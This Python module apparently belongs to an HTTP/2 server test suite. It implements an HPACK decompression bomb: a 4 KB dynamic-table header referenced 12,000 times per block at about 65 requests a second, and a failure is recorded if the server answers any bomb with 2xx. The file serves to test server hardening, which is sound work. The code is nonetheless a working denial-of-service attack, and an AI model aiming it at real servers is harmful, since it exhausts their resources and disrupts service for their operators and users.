"""HPACK bomb: a dynamic-table entry of about 4 KB (RFC 7541 §2.3.2), then header blocks of
12,000 one-byte references to it: 12 KB on the wire, 48 MB of header fields to decode, about
65 times a second. Expected: no such request is ever answered 2xx (431, RST_STREAM or GOAWAY,
RFC 9113 §10.5.1); the cost is bounded: the server stops decoding past its header limit or
drops the connection, and others are served meanwhile."""

import time

import h2wire
from attack import Attack, Outcome

REFS = 12_000
RATE = 65.0


def run(ctx):
    entry = h2wire.literal("x-bomb", "b" * 4000, indexed=True)
    refs = b"\xbe" * REFS      # indexed field 62: the newest dynamic-table entry
    base = h2wire.request_block("/hello")
    end = time.monotonic() + ctx.duration
    sent = reconnects = 0
    answered, resets, goaways = {}, {}, {}
    sock = reader = None
    sid = 1
    try:
        while time.monotonic() < end:
            if sock is None or reader.closed.is_set():
                if reader:
                    _tally(reader, answered, resets, goaways)
                    reader.stop()
                    sock.close()
                    reconnects += 1
                sock = h2wire.connect(ctx.port, timeout=5 * ctx.slow)
                reader = h2wire.Reader(sock)
                reader.start()
                sid = 1
                first = True
            block = base + (entry if first else b"") + refs
            first = False
            if not h2wire.send_all(sock, h2wire.headers(sid, block), 1.0 * ctx.slow):
                reader.closed.wait(1.0)
                if not reader.closed.is_set():
                    reader.sock.close()
                    reader.closed.wait(1.0)
                continue
            sent += 1
            sid += 2
            time.sleep(1.0 / RATE)
        if reader:
            reader.closed.wait(0.5)
    finally:
        if reader:
            _tally(reader, answered, resets, goaways)
            reader.stop()
            sock.close()
    seen = {**{f"status {k}": v for k, v in answered.items()},
            **{f"RST_STREAM {h2wire.error_name(k)}": v for k, v in resets.items()},
            **{f"GOAWAY {h2wire.error_name(k)}": v for k, v in goaways.items()}}
    unanswered = sent - sum(answered.values()) - sum(resets.values())
    obs = (f"sent {sent} bombs ({REFS} refs to a 4 KB entry each) on {reconnects + 1} "
           f"connections; server: " + (", ".join(f"{k} x{v}" for k, v in sorted(seen.items()))
                                       or "no answer") +
           (f", {unanswered} never answered (past a GOAWAY, or still pending at the end)" if unanswered > 0 else ""))
    broken = []
    ok = sum(v for k, v in answered.items() if k.startswith("2"))
    if ok:
        broken.append(f"{ok} bomb requests answered 2xx")
    return Outcome(obs, broken=broken)


def _tally(reader, answered, resets, goaways):
    with reader.lock:
        for st in reader.statuses.values():
            answered[st] = answered.get(st, 0) + 1
        for code in reader.resets.values():
            resets[code] = resets.get(code, 0) + 1
        if reader.goaway:
            goaways[reader.goaway[1]] = goaways.get(reader.goaway[1], 0) + 1
        reader.statuses.clear()
        reader.resets.clear()
        reader.goaway = None


ATTACK = Attack("hpack_bomb", "a 4 KB table entry referenced 12,000 times per block", run)
